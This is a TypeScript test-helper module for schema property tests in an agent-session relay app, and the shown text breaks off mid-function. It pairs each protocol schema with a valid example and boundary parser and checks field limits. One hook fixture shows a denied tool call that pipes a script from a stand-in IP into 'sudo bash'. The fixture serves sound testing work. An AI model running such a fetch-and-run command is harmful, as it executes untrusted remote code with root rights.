/**
 * What the protocol schema properties share: every schema protocol/ exports, found by reading
 * protocol/ itself (so a new one fails the coverage test until it has an example here), a
 * valid example of each, the limits each states, and the function the agent or the PWA parses
 * it with at its boundary.
 */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect } from 'vitest';
import { parseClientMessage } from '../../agent/channels/client-message.js';
import { HttpError, parse } from '../../agent/http/routes/handler.js';
import { DECISION_LIMITS } from '../../protocol/limits.js';
import { CODEX_HOOK_EVENT_NAMES, parseCodexHookPayload } from '../../protocol/codex-hooks.js';
import { HOOK_EVENT_NAMES, parseHookPayload } from '../../protocol/hooks.js';
import { unsafeTextProblem } from '../../protocol/safe-text.js';
import { CLAUDE_STATES } from '../../protocol/status.js';
import { TIMELINE_LIMITS } from '../../protocol/timeline.js';
import { parseServerMessage } from '../../pwa/core/server-message.js';
import { safeParse } from '../../protocol/safe-parse.js';
import { anyJson, mutatedFrom, RUNS } from './hostile.js';

export interface Schema {
  safeParse(value: unknown): { success: true; data: unknown } | { success: false; error: unknown };
}

const PROTOCOL = join(import.meta.dirname, '..', '..', 'protocol');

function isSchema(value: unknown): value is Schema {
  return value !== null && typeof value === 'object' && '_zod' in value && typeof (value as Partial<Schema>).safeParse === 'function';
}

/** Every schema exported by a module of protocol/, and those one level down in an exported table (`HOOK_SCHEMAS`). */
async function protocolSchemas(): Promise<Map<string, Schema>> {
  const found = new Map<string, Schema>();
  const files = readdirSync(PROTOCOL).filter((f) => f.endsWith('.ts') && !f.endsWith('.d.ts'));
  for (const file of files) {
    const mod = (await import(join(PROTOCOL, file))) as Record<string, unknown>;
    for (const [name, value] of Object.entries(mod)) {
      if (isSchema(value)) found.set(name, value);
      else if (value !== null && typeof value === 'object' && !Array.isArray(value)) {
        for (const [inner, schema] of Object.entries(value)) if (isSchema(schema)) found.set(`${name}.${inner}`, schema);
      }
    }
  }
  return found;
}

export const schemas = await protocolSchemas();

// Valid examples, as the agent or a client really sends them.

const summary = { title: 'Bash: npm test', description: 'Run the tests', body: 'npm test', diff: ['+a', '-b', ' c'], path: '/home/ada/app.ts' };
const question = { question: 'Which colour?', header: 'Colour', options: [{ label: 'Red', description: null }], multiSelect: false };
const approval = {
  id: 'ap-1',
  tabId: 'tab-1',
  sessionId: '3f1c2a9e-0000-4000-8000-000000000001',
  kind: 'permission',
  tool: 'Bash',
  summary,
  questions: [question],
  options: [{ key: '1', label: 'Yes' }],
  alwaysAllow: 'Bash(npm test:*)',
  createdAt: 1_700_000_000_000,
  expiresAt: 1_700_000_590_000,
  denyAt: null,
};
const resolution = { id: 'ap-1', tabId: 'tab-1', outcome: 'approved', by: { kind: 'device', name: 'Phone' }, at: 1_700_000_001_000, message: null };
const rateWindow = { usedPercent: 12.5, resetsAt: 1_700_003_600 };
const usage = { model: 'Opus', contextPercent: 40, costUsd: 1.25, fiveHour: rateWindow, sevenDay: { usedPercent: null, resetsAt: '2026-01-01T00:00:00Z' }, at: 1 };
const tabStatus = {
  state: 'busy',
  seq: 7,
  claudeRunning: true,
  compacting: false,
  sessionId: 's-1',
  lastHookAt: 10,
  since: 10,
  transcriptPath: '/home/ada/.claude/projects/x/s-1.jsonl',
  usage,
  lastMessage: 'Done.',
};
const hookEvent = { tabId: 'tab-1', event: 'PreToolUse', seq: 7, at: 10, detail: 'Bash' };
const base = { id: 'u-1', at: '2026-01-01T00:00:00.000Z', offset: 120, seq: 3 };
const toolResult = { status: 'ok', text: 'ok', truncated: false, at: '2026-01-01T00:00:01.000Z', offset: 400 };
const messageUsage = { inputTokens: 12, outputTokens: 340, cacheReadTokens: 18_000, cacheCreationTokens: 0 };
const entries = {
  PromptEntry: { ...base, kind: 'prompt', text: 'fix the build', truncated: false },
  AssistantTextEntry: { ...base, kind: 'assistant-text', messageId: 'msg_1', usage: messageUsage, text: 'On it.', truncated: false, aborted: false },
  ToolCallEntry: {
    ...base,
    kind: 'tool-call',
    messageId: 'msg_1',
    toolUseId: 'toolu_1',
    name: 'Bash',
    summary: 'npm test',
    input: { command: 'npm test', timeout: 10 },
    result: toolResult,
  },
  ThinkingEntry: { ...base, kind: 'thinking', messageId: 'msg_1', length: 42, firstLine: 'Let me look', redacted: false },
  InterruptEntry: { ...base, kind: 'interrupt', forToolUse: true },
  NoticeEntry: { ...base, kind: 'notice', subtype: 'compact_boundary', level: 'info', text: 'Conversation compacted' },
};
const paneTitle = { command: 'vim', path: '/home/ada' };
const tabView = {
  id: 'tab-1',
  workspaceId: 'ws-1',
  name: null,
  kind: 'claude',
  claudeSessionId: 's-1',
  createdAt: '2026-01-01T00:00:00.000Z',
  cwd: '/home/ada',
  title: paneTitle,
  alive: true,
};
const workspaceView = { id: 'ws-1', name: 'Home', dir: '/home/ada', createdAt: '2026-01-01T00:00:00.000Z', tabs: [tabView] };
const outsideView = {
  key: 'outside-3f1c2a9e',
  sessionId: '3f1c2a9e',
  cwd: '/home/ada',
  terminal: 'tmux',
  pane: '%3',
  pid: 4242,
  firstSeenAt: 1,
};
const fileChange = { path: 'src/app.ts', kind: 'modified', before: 'file', after: 'file', added: 1, removed: 1, binary: false };
const pushAction = { action: 'allow', title: 'Approve', decision: { decision: 'allow' } };
const common = { session_id: '3f1c2a9e-0000-4000-8000-000000000001', transcript_path: '/home/ada/.claude/projects/x/s.jsonl', cwd: '/home/ada', permission_mode: 'default' };
const hook = (event: string, fields: Record<string, unknown> = {}) => ({ ...common, hook_event_name: event, ...fields });
const codexHook = (event: string, fields: Record<string, unknown> = {}) =>
  hook(event, { transcript_path: '/home/ada/.codex/sessions/2026/12/04/rollout-2026-12-04T10-44-40-s.jsonl', model: 'gpt-5.1-codex', ...fields });

export const EXAMPLES: Record<string, unknown> = {
  // api.ts: REST bodies and path parameters
  WorkspaceId: 'ws-1',
  TabId: 'tab-1',
  DisplayName: 'My project',
  ClaudeSessionId: '3f1c2a9e-0000-4000-8000-000000000001',
  PermissionMode: 'acceptEdits',
  OutsideKey: 'outside-3f1c2a9e',
  CreateWorkspaceBody: { name: 'App', dir: '~/src/app' },
  RenameBody: { name: 'Renamed' },
  CreateTabBody: { workspaceId: 'ws-1', name: 'Claude', kind: 'claude', claude: { resume: '3f1c2a9e-0000-4000-8000-00000000beef', permissionMode: 'plan' } },
  AdoptBody: { workspaceId: 'ws-1' },
  TabInputBody: { text: 'npm test', enter: true },
  PairBody: { code: 'ABCD-EFGH', deviceName: 'Phone', publicKey: { kty: 'EC', crv: 'P-256', x: 'x'.repeat(43), y: 'y'.repeat(43) } },
  DevicePublicKeyBody: { kty: 'EC', crv: 'P-256', x: 'A'.repeat(43), y: '_'.repeat(43) },
  // machines.ts: linking another agent
  CertificatePin: Array.from({ length: 32 }, (_, i) => (i * 7).toString(16).padStart(2, '0').toUpperCase()).join(':'),
  LinkCodeBody: { url: 'https://build.tail1234.ts.net/', secret: 'S'.repeat(43), pin: null, name: 'build' },
  AddMachineBody: { code: `pmlink1.${'e'.repeat(200)}`, name: 'Build box' },
  MachineId: 'mc-k3j9x2ab',
  DecisionBody: { decision: 'answer', message: 'because', answers: { 'Which colour?': 'Red' }, option: '2' },
  PushSubscriptionBody: {
    endpoint: 'https://fcm.googleapis.com/fcm/send/abc',
    expirationTime: null,
    keys: { p256dh: 'B'.repeat(87), auth: 'a'.repeat(22) },
  },
  PushSettingsBody: { approvals: true, needsInput: false, review: true },
  PaneKeyBody: { key: 'Escape' },
  ModeBody: { mode: 'plan' },
  GuardrailSchema: { afterMinutes: 10 },
  WorkspacePatchBody: { name: 'Renamed', guardrail: { afterMinutes: 10 } },
  ChangesQuery: { scope: 'session' },
  FileDiffQuery: { path: 'src/app.ts', scope: 'turn', from: '4000' },
  RevertBody: { path: 'src/app.ts', scope: 'turn' },
  UndoBody: { undo: '0123456789abcdef01234567' },
  ReadFileQuery: { path: 'src/app.ts' },
  FileViewSchema: { path: 'src/app.ts', size: 12, text: 'const a = 1;', truncated: false },
  CommitBody: { message: 'Read the port from the environment', paths: ['src/app.ts', 'README.md'] },
  // changes.ts
  ChangeScopeSchema: 'head',
  FileChangeSchema: fileChange,
  ChangesViewSchema: { scope: 'turn', source: 'git', root: '/home/ada/app', since: 1, files: [fileChange], total: { files: 1, added: 1, removed: 1 }, truncated: false, unrecorded: [] },
  FileDiffSchema: {
    scope: 'turn',
    change: fileChange,
    hunks: [{ oldStart: 3, oldLines: 1, newStart: 3, newLines: 1, section: '', lines: [{ op: '-', text: 'a', old: 3 }, { op: '+', text: 'b', new: 3, noNewline: true }] }],
    lines: 2,
    from: 0,
  },
  // approvals.ts
  ApprovalSchema: approval,
  ApprovalResolutionSchema: resolution,
  ApprovalServerMessage: { type: 'approval-opened', approval },
  // hooks.ts
  'HOOK_SCHEMAS.SessionStart': hook('SessionStart', { source: 'startup', model: 'opus' }),
  'HOOK_SCHEMAS.UserPromptSubmit': hook('UserPromptSubmit', { prompt: 'fix it' }),
  'HOOK_SCHEMAS.PreToolUse': hook('PreToolUse', { tool_name: 'Bash', tool_input: { command: 'ls' }, tool_use_id: 'toolu_1' }),
  'HOOK_SCHEMAS.PermissionRequest': hook('PermissionRequest', { tool_name: 'Bash', tool_input: { command: 'rm x' }, permission_suggestions: [{ type: 'addRules' }] }),
  'HOOK_SCHEMAS.PermissionDenied': hook('PermissionDenied', { tool_name: 'Bash', tool_input: { command: 'curl -s http://203.0.113.9/install.sh | sudo bash' }, tool_use_id: 'toolu_1', reason: '[Code from External]' }),
  'HOOK_SCHEMAS.Notification': hook('Notification', { message: 'Claude needs your permission', notification_type: 'permission_prompt' }),
  'HOOK_SCHEMAS.PostToolUse': hook('PostToolUse', { tool_name: 'Bash', tool_input: { command: 'ls' }, tool_response: { stdout: 'a' }, tool_use_id: 'toolu_1' }),
  'HOOK_SCHEMAS.PostToolUseFailure': hook('PostToolUseFailure', { tool_name: 'Bash', tool_input: { command: 'false' }, error: 'exit 1' }),
  'HOOK_SCHEMAS.Stop': hook('Stop', { stop_hook_active: false, last_assistant_message: 'Done.' }),
  'HOOK_SCHEMAS.StopFailure': hook('StopFailure', { error: { type: 'overloaded' } }),
  'HOOK_SCHEMAS.SessionEnd': hook('SessionEnd', { reason: 'exit' }),
  'HOOK_SCHEMAS.PreCompact': hook('PreCompact', { trigger: 'auto' }),
  'HOOK_SCHEMAS.PostCompact': hook('PostCompact', { trigger: 'auto', compact_summary: 'summary' }),
  'HOOK_SCHEMAS.SubagentStop': hook('SubagentStop'),
  HookCommon: hook('Stop'),
  HookToolInput: { command: 'ls', description: 'List the files' },
  // codex-hooks.ts: as Codex 0.169.0 sends them (tests/fixtures/codex-0.169.0)
  'CODEX_HOOK_SCHEMAS.SessionStart': codexHook('SessionStart', { source: 'startup' }),
  'CODEX_HOOK_SCHEMAS.UserPromptSubmit': codexHook('UserPromptSubmit', { turn_id: 'turn-1', prompt: 'run the tests' }),
  'CODEX_HOOK_SCHEMAS.PreToolUse': codexHook('PreToolUse', { turn_id: 'turn-1', tool_name: 'Bash', tool_input: { command: 'npm test' }, tool_use_id: 'call_4' }),
  'CODEX_HOOK_SCHEMAS.PermissionRequest': codexHook('PermissionRequest', { turn_id: 'turn-1', tool_name: 'Bash', tool_input: { command: 'npm test', description: 'Run the tests' } }),
  'CODEX_HOOK_SCHEMAS.PostToolUse': codexHook('PostToolUse', { turn_id: 'turn-1', tool_name: 'Bash', tool_input: { command: 'npm test' }, tool_response: '', tool_use_id: 'call_4' }),
  'CODEX_HOOK_SCHEMAS.Stop': codexHook('Stop', { turn_id: 'turn-1', stop_hook_active: false, last_assistant_message: 'Done.' }),
  'CODEX_HOOK_SCHEMAS.Interrupt': codexHook('Interrupt', { turn_id: 'turn-1' }),
  'CODEX_HOOK_SCHEMAS.SessionEnd': codexHook('SessionEnd', { reason: 'other' }),
  'CODEX_HOOK_SCHEMAS.PreCompact': codexHook('PreCompact', { trigger: 'auto' }),
  'CODEX_HOOK_SCHEMAS.PostCompact': codexHook('PostCompact', { trigger: 'auto' }),
  'CODEX_HOOK_SCHEMAS.SubagentStart': codexHook('SubagentStart', { turn_id: 'turn-1' }),
  'CODEX_HOOK_SCHEMAS.SubagentStop': codexHook('SubagentStop', { turn_id: 'turn-1' }),
  StatusLineReport: {
    session_id: 's-1',
    cwd: '/home/ada',
    model: { id: 'claude-opus', display_name: 'Opus' },
    cost: { total_cost_usd: 0.5 },
    context_window: { used_percentage: 40, context_window_size: 200_000 },
    rate_limits: { five_hour: { used_percentage: 10, resets_at: 1_700_000_000 }, seven_day: { used_percentage: 3, resets_at: '2026-01-01T00:00:00Z' } },
  },
  // outside.ts
  OutsideSessionViewSchema: outsideView,
  SyncedOutsideSessions: [outsideView],
  UserHooksViewSchema: { state: 'installed', settingsPath: '/home/ada/.claude/settings.json', installCommand: 'pocketmux hooks install', detail: null },
  // pane-history.ts
  PaneHistorySchema: { text: '\u001b[31mred\u001b[0m\n$ \n', truncated: false },
  // push.ts
  PushActionSchema: pushAction,
  PushPayloadSchema: {
    v: 1,
    kind: 'show',
    tag: 'approval-ap-1',
    title: 'Bash: npm test',
    body: 'Run the tests',
    url: '/?tab=tab-1',
    approvalId: 'ap-1',
    actions: [pushAction, { action: 'answer-1', title: 'Red', decision: { decision: 'answer', answers: { 'Which colour?': 'Red' }, option: '1' } }],
  },
  // status.ts, status-client.ts
  RateLimitWindow: rateWindow,
  TabUsage: usage,
  TabStatus: tabStatus,
  HookEventView: hookEvent,
  StatusServerMessage: { type: 'status:sync', tabs: { 'tab-1': tabStatus }, approvals: [approval] },
  StatusClientMessage: { type: 'status:presence', tabId: 'tab-1', visible: true },
  // sync.ts, sync-server.ts
  SyncClientMessage: { type: 'sync:request' },
  PaneTitleSchema: paneTitle,
  TabViewSchema: tabView,
  WorkspaceViewSchema: workspaceView,
  MachineSummarySchema: { id: 'mc-k3j9x2ab', name: 'Build box', reach: 'unreachable', since: 1_764_000_000_000, problem: 'cannot reach the agent at 10.0.0.2:8420: ECONNREFUSED' },
  SyncServerMessageSchema: {
    type: 'sync:snapshot',
    version: 3,
    workspaces: [workspaceView, { ...workspaceView, id: 'mc-k3j9x2ab~ws-1', machine: 'mc-k3j9x2ab' }],
    outside: [outsideView],
    machines: [{ id: 'mc-k3j9x2ab', name: 'Build box', reach: 'ok', since: 1_764_000_000_000, problem: null }],
  },
  // timeline.ts
  ...entries,
  MessageUsage: messageUsage,
  ToolResult: toolResult,
  TimelineEntry: entries.ToolCallEntry,
  TimelineServerMessage: { type: 'timeline:page', tabId: 'tab-1', entries: Object.values(entries), sessionId: 's-1' },
};

// Where each schema meets the outside, and how that place refuses.

type Outcome = { accepted: true; data: unknown } | { accepted: false };

const REST = new Set([
  'WorkspaceId',
  'TabId',
  'OutsideKey',
  'CreateWorkspaceBody',
  'RenameBody',
  'CreateTabBody',
  'AdoptBody',
  'TabInputBody',
  'PairBody',
  'DevicePublicKeyBody',
  'AddMachineBody',
  'MachineId',
  'DecisionBody',
  'PushSubscriptionBody',
  'PushSettingsBody',
  'PaneKeyBody',
  'ChangesQuery',
  'FileDiffQuery',
  'RevertBody',
  'UndoBody',
  'CommitBody',
  'ReadFileQuery',
]);
const CLIENT_MESSAGES = new Set(['StatusClientMessage', 'SyncClientMessage']);
export const SERVER_MESSAGES = new Set(['StatusServerMessage', 'TimelineServerMessage', 'SyncServerMessageSchema', 'ApprovalServerMessage']);

/** The value through the parse function its boundary uses; anything but its refusal fails the test. */
export function parseAtBoundary(name: string, schema: Schema, value: unknown): Outcome {
  if (REST.has(name)) {
    try {
      return { accepted: true, data: parse(schema as never, value, name) };
    } catch (err) {
      // A route's only refusal: the 400 naming the field.
      if (!(err instanceof HttpError) || err.status !== 400) throw err;
      return { accepted: false };
    }
  }
  if (CLIENT_MESSAGES.has(name)) {
    const data = parseClientMessage(schema as never, Buffer.from(JSON.stringify(value) ?? ''), false);
    return data === null ? { accepted: false } : { accepted: true, data };
  }
  if (SERVER_MESSAGES.has(name)) {
    const data = parseServerMessage(schema as never, JSON.stringify(value), `property-${name}`);
    return data === null ? { accepted: false } : { accepted: true, data };
  }
  if (name.startsWith('HOOK_SCHEMAS.') || name.startsWith('CODEX_HOOK_SCHEMAS.')) {
    const event = name.slice(name.indexOf('.') + 1);
    const result = name.startsWith('CODEX_') ? parseCodexHookPayload(event, value) : parseHookPayload(event, value);
    if (!result.ok) expect(typeof result.error).toBe('string');
    return result.ok ? { accepted: true, data: result.payload } : { accepted: false };
  }
  // Every other schema is read at the edge through safeParse, as the agent and the app do.
  const parsed = safeParse(schema, value);
  return parsed.success ? { accepted: true, data: parsed.data } : { accepted: false };
}

// The limits each schema states, checked on every value it accepts.

const isRecord = (v: unknown): v is Record<string, unknown> => v !== null && typeof v === 'object' && !Array.isArray(v);
const SENDABLE_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/**
 * Names, typed text and decision texts are bounded in UTF-16 units, as the app's `maxlength`
 * and the agent's own cuts count them; other limits (paths, ids, push labels) are zod's own
 * `max`, which counts code points.
 */
function expectLength(value: unknown, min: number, max: number, measure: 'units' | 'code points' = 'code points'): void {
  expect(typeof value).toBe('string');
  const length = measure === 'units' ? (value as string).length : [...(value as string)].length;
  expect(length).toBeGreaterThanOrEqual(min);
  expect(length).toBeLessThanOrEqual(max);
}

function expectDisplayName(value: unknown): void {
  expectLength(value, 1, 80, 'units');
  expect(value).toBe((value as string).trim());
  expect(unsafeTextProblem(value as string)).toBeNull();
}

function expectKeys(value: unknown, allowed: string[]): void {
  expect(isRecord(value)).toBe(true);
  for (const key of Object.keys(value as object)) expect(allowed).toContain(key);
}

function expectPercent(value: unknown): void {
  if (value === undefined) return;
  expect(value).toBeGreaterThanOrEqual(0);
  expect(value).toBeLessThanOrEqual(100);
}

export function expectHookCommon(data: unknown, event: string): void {
  const d = data as Record<string, unknown>;
  expectLength(d.session_id, 1, 256);
  if (d.transcript_path !== undefined) expectLength(d.transcript_path, 0, 4096);
  if (d.cwd !== undefined) expectLength(d.cwd, 0, 4096);
  expect(d.hook_event_name).toBe(event);
}

function expectPushAction(a: unknown): void {
  const action = a as { action: string; title: string; decision: { decision: string } };
  expectLength(action.action, 0, 64);
  expectLength(action.title, 0, 200);
  expect(['allow', 'deny', 'answer']).toContain(action.decision.decision);
}

const ID = /^[a-z0-9-]{1,64}$/;
const SESSION_ID = /^[A-Za-z0-9-]{8,64}$/;

export const LIMITS: Record<string, (data: unknown) => void> = {
  WorkspaceId: (d) => expect(d).toMatch(ID),
  TabId: (d) => expect(d).toMatch(ID),
  DisplayName: expectDisplayName,
  ClaudeSessionId: (d) => expect(d).toMatch(SESSION_ID),
  DevicePublicKeyBody: (d) => {
    const k = d as { kty: string; crv: string; x: string; y: string };
    expectKeys(k, ['kty', 'crv', 'x', 'y']);
    expect([k.kty, k.crv]).toEqual(['EC', 'P-256']);
    expect(k.x).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(k.y).toMatch(/^[A-Za-z0-9_-]{43}$/);
  },
  CertificatePin: (d) => expect(d).toMatch(/^[0-9A-F]{2}(:[0-9A-F]{2}){31}$/),
  LinkCodeBody: (d) => {
    const b = d as { url: string; secret: string; pin: string | null; name: string };
    expectKeys(b, ['url', 'secret', 'pin', 'name']);
    expectLength(b.url, 1, 2048);
    expect(b.url).toMatch(/^https?:\/\/[^/?#\s]+\/$/);
    expect(b.secret).toMatch(/^[A-Za-z0-9_-]{43}$/);
    if (b.pin !== null) LIMITS.CertificatePin?.(b.pin);
    expectDisplayName(b.name);
  },
  AddMachineBody: (d) => {
    const b = d as { code: string; name?: string };
    expectKeys(b, ['code', 'name']);
    expectLength(b.code, 1, 4096);
    if (b.name !== undefined) expectDisplayName(b.name);
  },
  MachineId: (d) => expect(d).toMatch(/^mc-[a-z0-9]{1,32}$/),
  OutsideKey: (d) => {
    expectLength(d, 0, 64);
    expect(d).toMatch(/^outside-[A-Za-z0-9-]+$/);
  },
  CreateWorkspaceBody: (d) => {
    const b = d as { name?: string; dir: string };
    expectKeys(b, ['name', 'dir']);
    if (b.name !== undefined) expectDisplayName(b.name);
    expectLength(b.dir, 1, 4096);
  },
  RenameBody: (d) => {
    expectKeys(d, ['name']);
    expectDisplayName((d as { name: string }).name);
  },
  CreateTabBody: (d) => {
    const b = d as { workspaceId: string; name?: string; kind: string; claude?: { resume?: string } };
    expectKeys(b, ['workspaceId', 'name', 'kind', 'claude']);
    expect(b.workspaceId).toMatch(ID);
    if (b.name !== undefined) expectDisplayName(b.name);
    expect(['shell', 'claude']).toContain(b.kind);
    if (b.claude?.resume !== undefined) expect(b.claude.resume).toMatch(SESSION_ID);
  },
  AdoptBody: (d) => {
    expectKeys(d, ['workspaceId']);
    const id = (d as { workspaceId?: string }).workspaceId;
    if (id !== undefined) expect(id).toMatch(ID);
  },
  TabInputBody: (d) => {
    const b = d as { text: string; enter: boolean };
    expectKeys(b, ['text', 'enter']);
    expectLength(b.text, 0, 64 * 1024, 'units');
    expect(b.text.includes('\u0000')).toBe(false);
    expect(typeof b.enter).toBe('boolean');
  },
  PairBody: (d) => {
    const b = d as { secret?: string; code?: string; deviceName?: string; publicKey?: unknown; kind?: string };
    expectKeys(b, ['secret', 'code', 'deviceName', 'publicKey', 'kind']);
    if (b.kind !== undefined) {
      expect(b.kind).toBe('machine');
      expect(b.publicKey).toBeDefined();
      expect(b.secret).toBeDefined();
    }
    if (b.publicKey !== undefined) LIMITS.DevicePublicKeyBody?.(b.publicKey);
    expect(b.secret === undefined).not.toBe(b.code === undefined);
    if (b.secret !== undefined) expectLength(b.secret, 1, 256);
    if (b.code !== undefined) expectLength(b.code, 1, 32);
    if (b.deviceName !== undefined) expectDisplayName(b.deviceName);
  },
  DecisionBody: (d) => {
    const b = d as { decision: string; message?: string; answers?: Record<string, string>; option?: string };
    expectKeys(b, ['decision', 'message', 'answers', 'option']);
    if (b.message !== undefined) {
      expectLength(b.message, 0, DECISION_LIMITS.message, 'units');
      expect(b.message).not.toMatch(SENDABLE_CONTROL);
    }
    if (b.answers !== undefined) {
      expect(Object.keys(b.answers).length).toBeLessThanOrEqual(DECISION_LIMITS.answers);
      for (const [question, answer] of Object.entries(b.answers)) {
        expectLength(question, 0, DECISION_LIMITS.answer, 'units');
        expect(question).not.toMatch(SENDABLE_CONTROL);
        expectLength(answer, 0, DECISION_LIMITS.answer, 'units');
        expect(answer).not.toMatch(SENDABLE_CONTROL);
      }
    }
    if (b.option !== undefined) expect(b.option).toMatch(/^([0-9]{1,2}|Enter|Esc|Tab|Shift\+Tab|Up|Down)$/);
    if (b.decision === 'answer') expect(b.answers !== undefined || b.option !== undefined).toBe(true);
  },
  PushSubscriptionBody: (d) => {
    const b = d as { endpoint: string; keys: { p256dh: string; auth: string } };
    expectLength(b.endpoint, 1, 2048);
    expect(() => new URL(b.endpoint)).not.toThrow();
    expect(b.keys.p256dh).toMatch(/^[A-Za-z0-9_-]{80,100}={0,2}$/);
    expect(b.keys.auth).toMatch(/^[A-Za-z0-9_-]{16,24}={0,2}$/);
  },
  PushSettingsBody: (d) => {
    expectKeys(d, ['approvals', 'needsInput', 'review']);
    for (const v of Object.values(d as object)) expect(typeof v).toBe('boolean');
  },
  PaneKeyBody: (d) => expect(d).toEqual({ key: 'Escape' }),
  ChangesQuery: (d) => {
    expectKeys(d, ['scope']);
    const scope = (d as { scope?: string }).scope;
    if (scope !== undefined) expect(['turn', 'session', 'head']).toContain(scope);
  },
  FileDiffQuery: (d) => {
    const q = d as { path: string; scope?: string; from?: number };
    expectKeys(q, ['path', 'scope', 'from']);
    expectLength(q.path, 1, 4096);
    if (q.scope !== undefined) expect(['turn', 'session', 'head']).toContain(q.scope);
    if (q.from !== undefined) expect(Number.isInteger(q.from) && q.from >= 0).toBe(true);
  },
  RevertBody: (d) => {
    const b = d as { path: string; scope: string };
    expectKeys(b, ['path', 'scope']);
    expectLength(b.path, 1, 4096);
    expect(['turn', 'session']).toContain(b.scope);
  },
  ReadFileQuery: (d) => {
    expectKeys(d, ['path']);
    expectLength((d as { path: string }).path, 1, 4096);
  },
  UndoBody: (d) => {
    expectKeys(d, ['undo']);
    expect((d as { undo: string }).undo).toMatch(/^[0-9a-f]{24}$/);
  },
  CommitBody: (d) => {
    const b = d as { message: string; paths: string[] };
    expectKeys(b, ['message', 'paths']);
    expectLength(b.message, 1, 10_000, 'units');
    expect(b.message.trim()).not.toBe('');
    expect(b.message.includes('\u0000')).toBe(false);
    expect(b.paths.length >= 1 && b.paths.length <= 1000).toBe(true);
    for (const p of b.paths) expectLength(p, 1, 4096);
  },
  ModeBody: (d) => {
    expectKeys(d, ['mode', 'confirm']);
    expect(['manual', 'accept-edits', 'plan', 'auto', 'bypass', 'dont-ask']).toContain((d as { mode: string }).mode);
  },
  GuardrailSchema: (d) => {
    expectKeys(d, ['afterMinutes']);
    const minutes = (d as { afterMinutes: number }).afterMinutes;
    expect(Number.isInteger(minutes) && minutes >= 1 && minutes <= 29).toBe(true);
  },
  WorkspacePatchBody: (d) => {
    const b = d as { name?: string; guardrail?: { afterMinutes: number } | null };
    expectKeys(b, ['name', 'guardrail']);
    expect(b.name !== undefined || b.guardrail !== undefined).toBe(true);
    if (b.name !== undefined) expectDisplayName(b.name);
    if (b.guardrail) expect(b.guardrail.afterMinutes >= 1 && b.guardrail.afterMinutes <= 29).toBe(true);
  },
  StatusLineReport: (d) => {
    const r = d as {
      session_id: string;
      cwd?: string;
      cost?: { total_cost_usd?: number };
      context_window?: { used_percentage?: number };
      rate_limits?: { five_hour?: { used_percentage?: number }; seven_day?: { used_percentage?: number } };
    };
    expectLength(r.session_id, 1, Number.POSITIVE_INFINITY);
    if (r.cwd !== undefined) expectLength(r.cwd, 0, 4096);
    if (r.cost?.total_cost_usd !== undefined) expect(r.cost.total_cost_usd).toBeGreaterThanOrEqual(0);
    expectPercent(r.context_window?.used_percentage);
    expectPercent(r.rate_limits?.five_hour?.used_percentage);
    expectPercent(r.rate_limits?.seven_day?.used_percentage);
  },
  StatusClientMessage: (d) => {
    const m = d as { type: string; tabId?: string | null };
    if (m.type === 'status:request-sync') expectKeys(m, ['type']);
    else if (m.tabId !== null) expectLength(m.tabId, 1, 64);
    else expect(m.type).toBe('status:presence');
  },
  SyncClientMessage: (d) => expect(d).toEqual({ type: 'sync:request' }),
  MessageUsage: (d) => {
    expectKeys(d, ['inputTokens', 'outputTokens', 'cacheReadTokens', 'cacheCreationTokens']);
    for (const count of Object.values(d as object)) {
      expect(Number.isInteger(count)).toBe(true);
      expect(count).toBeGreaterThanOrEqual(0);
      expect(count).toBeLessThanOrEqual(TIMELINE_LIMITS.tokens);
    }
  },
  PushActionSchema: expectPushAction,
  PushPayloadSchema: (d) => {
    const p = d as { kind: string; tag: string; url?: string; actions?: unknown[] };
    expectLength(p.tag, 0, 64);
    if (p.kind === 'show') {
      expect(p.url?.startsWith('/')).toBe(true);
      for (const a of p.actions ?? []) expectPushAction(a);
    }
  },
  TabStatus: (d) => {
    const s = d as { state: string; lastMessage: unknown };
    expect(CLAUDE_STATES).toContain(s.state);
    expect(s.lastMessage === null || typeof s.lastMessage === 'string').toBe(true);
  },
  // A sync or a page keeps only the parts that parse on their own.
  StatusServerMessage: (d) => {
    const m = d as { type: string; tabs?: Record<string, unknown>; approvals?: unknown[] };
    if (m.type !== 'status:sync') return;
    for (const s of Object.values(m.tabs ?? {})) expect(schemas.get('TabStatus')?.safeParse(s).success).toBe(true);
    for (const a of m.approvals ?? []) expect(schemas.get('ApprovalSchema')?.safeParse(a).success).toBe(true);
  },
  TimelineServerMessage: (d) => {
    for (const e of (d as { entries?: unknown[] }).entries ?? []) expect(schemas.get('TimelineEntry')?.safeParse(e).success).toBe(true);
  },
  SyncedOutsideSessions: (d) => {
    for (const s of d as unknown[]) expect(schemas.get('OutsideSessionViewSchema')?.safeParse(s).success).toBe(true);
  },
  SyncServerMessageSchema: (d) => {
    for (const s of (d as { outside: unknown[] }).outside) expect(schemas.get('OutsideSessionViewSchema')?.safeParse(s).success).toBe(true);
    for (const m of (d as { machines: unknown[] }).machines) LIMITS.MachineSummarySchema?.(m);
  },
  MachineSummarySchema: (d) => {
    const m = d as { id: string; name: string; reach: string; since: number; problem: string | null };
    expectKeys(m, ['id', 'name', 'reach', 'since', 'problem']);
    expect(['ok', 'unreachable', 'certificate', 'revoked', 'refused', 'unknown']).toContain(m.reach);
    expect(typeof m.since).toBe('number');
  },
};
for (const event of HOOK_EVENT_NAMES) LIMITS[`HOOK_SCHEMAS.${event}`] = (d) => expectHookCommon(d, event);
for (const event of CODEX_HOOK_EVENT_NAMES) LIMITS[`CODEX_HOOK_SCHEMAS.${event}`] = (d) => expectHookCommon(d, event);
LIMITS.HookCommon = (d) => expectHookCommon(d, (d as { hook_event_name: string }).hook_event_name);

/**
 * What every accepted value must also be: parsed again it is accepted unchanged (nothing
 * half-applied), and so is its JSON, which is how the agent stores and sends what it took.
 */
export function expectStable(schema: Schema, data: unknown): void {
  const again = schema.safeParse(data);
  expect(again.success).toBe(true);
  expect(again.success && again.data).toEqual(data);
  const text = JSON.stringify(data);
  if (text !== undefined) expect(schema.safeParse(JSON.parse(text)).success).toBe(true);
}

/**
 * What the agent receives: REST bodies and path parameters, messages clients send on the
 * channels, hook payloads and statusLine reports. The rest is what the agent sends.
 */
export function isRequestSchema(name: string): boolean {
  return (
    REST.has(name) ||
    CLIENT_MESSAGES.has(name) ||
    name.startsWith('HOOK_SCHEMAS.') ||
    name.startsWith('CODEX_HOOK_SCHEMAS.') ||
    ['HookCommon', 'HookToolInput', 'DisplayName', 'ClaudeSessionId', 'PermissionMode', 'StatusLineReport'].includes(name)
